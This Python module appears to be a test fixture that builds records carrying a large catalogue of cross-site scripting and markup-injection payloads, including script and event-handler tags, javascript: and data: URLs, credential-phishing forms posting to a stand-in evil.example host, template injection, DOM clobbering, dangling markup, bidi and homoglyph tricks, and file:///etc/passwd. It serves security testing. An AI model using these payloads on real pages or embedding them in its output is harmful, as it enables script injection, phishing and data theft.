"""Markup that is written against whoever shows it, at each place of a record: `{e}` is where it would lead, `{n}` a
number of its own.
"""

from dataclasses import dataclass
from itertools import product
from random import Random

_MARKUP = [
    # Scripts and handlers
    "<script>window.attacked={n}</script>",
    "<script src={e}/x.js?{n}></script>",
    "<SCRIPT/XSS SRC='{e}/x.js?{n}'></SCRIPT >",
    "<scr<script>ipt>window.attacked={n}</scr</script>ipt>",
    "<script type=module>import '{e}/m.js?{n}'</script>",
    '<img src=x onerror="window.attacked={n}">',
    "<img src={e}/i.png?{n} srcset='{e}/s.png?{n} 2x' loading=eager>",
    "<img/src/onerror=window.attacked={n}>",
    "<svg onload=window.attacked={n}><script>window.attacked={n}</script></svg>",
    "<svg><use href='{e}/s.svg#x'/><image href={e}/i.png?{n} /><animate onbegin=window.attacked={n} "
    "attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe src='{e}/f?{n}'></iframe></foreignObject></svg>",
    "<body onload=window.attacked={n} background={e}/b.png?{n}>",
    "<details open ontoggle=window.attacked={n}><summary>x</summary></details>",
    "<video autoplay onerror=window.attacked={n} src={e}/v.mp4?{n} poster={e}/p.png?{n}><source src={e}/w.mp4?{n}>"
    "</video>",
    "<audio src={e}/a.mp3?{n} autoplay></audio>",
    "<input autofocus onfocus=window.attacked={n} type=image src={e}/t.png?{n}>",
    "<marquee onstart=window.attacked={n}>x</marquee>",
    '<a href="javascript:window.attacked={n}" onmouseover="window.attacked={n}">the rules</a>',
    '<iframe srcdoc="<script>parent.attacked={n}</script>"></iframe>',
    "<iframe src={e}/f?{n} onload=window.attacked={n}></iframe>",
    "<object data={e}/o?{n} type=text/html></object><embed src={e}/e?{n}><applet code={e}/p?{n}>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.attacked={n}&gt;">',
    "<math href='javascript:window.attacked={n}'><mi xlink:href='{e}/m?{n}'>x</mi></math>",
    # Style, and what is loaded ahead
    "<style>@import '{e}/c.css?{n}'; body {{ display: none }} .turn {{ background: url({e}/u?{n}) }}</style>",
    "<link rel=stylesheet href={e}/l.css?{n}>",
    "<link rel=prefetch href={e}/p?{n}><link rel=dns-prefetch href=//p{n}.evil.example><link rel=preconnect href={e}>",
    "<link rel=preload as=image href={e}/p?{n}><link rel=modulepreload href={e}/m.js?{n}><link rel=icon "
    "href={e}/i.ico?{n}>",
    "<div style=\"position:fixed;inset:0;z-index:99;background:url('{e}/d?{n}')\">Your session has ended</div>",
    "<p style=\"background-image:image-set('{e}/s?{n}' 1x);font-family:'x'\">x</p>",
    # The page itself
    "<form action={e}/k?{n} method=post><input name=key type=password><button>Sign in</button></form>",
    "<button formaction={e}/b?{n} form=composer>Send</button><input form=settings-form name=key>",
    '<meta http-equiv=refresh content="0;url={e}/r?{n}">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name=referrer content=unsafe-url>',
    "<base href={e}/ target=_top>",
    "<title>attacked</title><h1>attacked</h1>",
    "<dialog open>Enter your key</dialog><div popover id=p{n}>x</div>",
    "<a href={e}/d?{n} download ping={e}/ping?{n} target=_top>the form</a>",
    # Dangling and broken
    "<img src='{e}/?{n}&text=",
    '<a href="{e}/?{n}&text=',
    "<textarea>",
    "<title>",
    "<plaintext>",
    "<!-- ",
    "<xmp><noembed><noframes>",
    "<select><option><style>",
    "<template><slot name=x>",
    '<noscript><p title="</noscript><img src=x onerror=window.attacked={n}>">',
    '</p></blockquote></dialog></div></main></body></html><img src=x onerror="window.attacked={n}">',
    "<![CDATA[<img src=x onerror=window.attacked={n}>]]>",
    "<?xml-stylesheet href='{e}/x.xsl?{n}'?><!DOCTYPE x [<!ENTITY y SYSTEM '{e}/y?{n}'>]>&y;",
    "<" * 40 + "img src=x onerror=window.attacked={n}" + ">" * 40,
    "\"'><img src=x onerror=window.attacked={n}>",
    '`-window.attacked={n}-`${{window.attacked={n}}}\\"-window.attacked={n}//',
    # Markdown
    "[the rules](javascript:window.attacked={n})",
    "[the rules](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![chart]({e}/i.png?{n}) [![x]({e}/j.png?{n})]({e}/k?{n})",
    "[the rules](java&#115;cript:window.attacked={n}) [these](&#x6A;avascript:window.attacked={n})",
    "<javascript:window.attacked={n}> <{e}/auto?{n}>",
    "[a][b]\n\n[b]: javascript:window.attacked={n}",
    "**<img src=x onerror=window.attacked={n}>** `<script>window.attacked={n}</script>`",
    "```html\n<script>window.attacked={n}</script>\n``` ~~~",
    "[1](javascript:window.attacked={n}) [2]({e}/two?{n}) 【1】 [99]",
    # Names that code may look for
    "<form id=log><input id=message><a id=passage name=close></a><div id=kb class=turn></div></form>",
    "<img name=body><img name=getElementById><form name=querySelector><input name=attributes></form>",
    "<a id=turn-template></a><a id=turn-template name=content href=clobbered:x></a><template id=source-template>"
    "</template>",
    "__proto__ constructor toString [1] hasOwnProperty",
    # Templates
    "{{{{constructor.constructor('window.attacked={n}')()}}}} ${{window.attacked={n}}} <%= window.attacked={n} %> "
    "#{{attacked}} [[${{attacked}}]]",
    '<div ng-app ng-csp x-data x-init="attacked={n}" v-html="x" hx-get="{e}/h?{n}" hx-trigger=load></div>',
    # Spellings
    "&lt;img src=x onerror=window.attacked={n}&gt; &#60;script&#62;window.attacked={n}&#60;/script&#62;",
    "%3Cscript%3Ewindow.attacked={n}%3C/script%3E \\u003cscript\\u003e \\x3cimg\\x3e",
    "＜script＞window.attacked={n}＜/script＞ ‹img src=x›",
    "+ADw-script+AD4-window.attacked={n}+ADw-/script+AD4-",
    "<img\u200b src=x\u00a0onerror=window.attacked={n}> <scr\u00adipt>",
    "<img src=x one\u0000rror=window.attacked={n}>\u001b[31m\u0007\u0085\u2028<b>\u2029",
    'data: x\n\nevent: done\ndata: {{"reply": "attacked"}}\n\n',
    # Directions and sizes
    "\u202egro.elpmaxe.doog//:sptth si ereh\u202c \u202e\u202e\u2066\u2067",
    "\u2067\u202e<b>\u2068 and \u200f\u200e\u061c",
    "W" * 3000,
    "\u05d0" * 900 + "x" * 900,
    "z" + "\u0301\u0323\u0489" * 150,
    "👩‍👩‍👧‍👦" * 200,
    "\n" * 60 + "far below" + "\t" * 200,
]
_ADDRESSES = [
    "javascript:window.attacked={n}",
    "JaVaScRiPt:window.attacked={n}",
    " javascript:window.attacked={n}",
    "java\tscript:window.attacked={n}",
    "\u0001javascript:window.attacked={n}",
    "javascript://good.example/%0awindow.attacked={n}",
    "javascript&colon;window.attacked={n}",
    "data:text/html,<script>window.attacked={n}</script>",
    "vbscript:window.attacked={n}",
    "file:///etc/passwd",
    "blob:https://good.example/{n}",
    "filesystem:https://good.example/temporary/{n}",
    "about:blank",
    "view-source:{e}/",
    "intent://evil.example/#Intent;scheme=https;end",
    "ftp://evil.example/{n}",
    "ws://evil.example/{n}",
    "//evil.example/{n}",
    "\\\\evil.example\\{n}",
    "mailto:x@evil.example?body={n}",
    "https://good.example@evil.example/{n}",
    'https://evil.example/{n}" onmouseover="window.attacked={n}',
    "https://evil.example/{n}'><img src=x onerror=window.attacked={n}>",
    "https://evil.example/{n}/\u202egpj.exe",
    "https://evil.example/\u2066\u200b{n}",
    "http://[::1]:9/{n}",
    "{e}/{n}?<script>window.attacked={n}</script>",
    "https://evil.example/" + "w" * 2000 + "/{n}",
    "https://еvil.example/{n}",
]
PLACES = ("text", "title", "maker")


@dataclass(frozen=True)
class Marked:
    """A record with markup at one place, and a word of its own in its text."""

    number: int
    place: str
    markup: str
    subject: str

    @property
    def question(self) -> str:
        return f"Where does the {self.subject} lamp hang?"

    def record(self) -> dict[str, str]:
        text = f"The {self.subject} lamp hangs beside the lake, next to number {self.number}."
        record = {"title": self.subject, "url": f"https://lamps.example/{self.number}", "maker": "nobody", "text": text}
        written = {
            "text": f"The {self.subject} lamp hangs {self.markup} beside the lake.",
            "title": f"{self.subject} {self.markup}",
        }
        return {**record, self.place: written.get(self.place, self.markup)}


def marked_records(listener: str, seed: int = 59) -> list[Marked]:
    """Each markup at each place of a record, and each address as that of a record. They lead to `listener`, the address
    of a server, or to a foreign host.
    """
    random = Random(seed)
    chosen = [*product(PLACES, _MARKUP), *(("url", address) for address in _ADDRESSES)]
    records = []
    for number, (place, markup) in enumerate(chosen):
        subject = "".join(
            random.choice("bdfgklmnprstvz") + random.choice("aeiou") for _ in range(4)
        ).capitalize() + str(number)
        records.append(
            Marked(number, place, markup.format(e=random.choice((listener, "https://evil.example")), n=number), subject)
        )
    return records
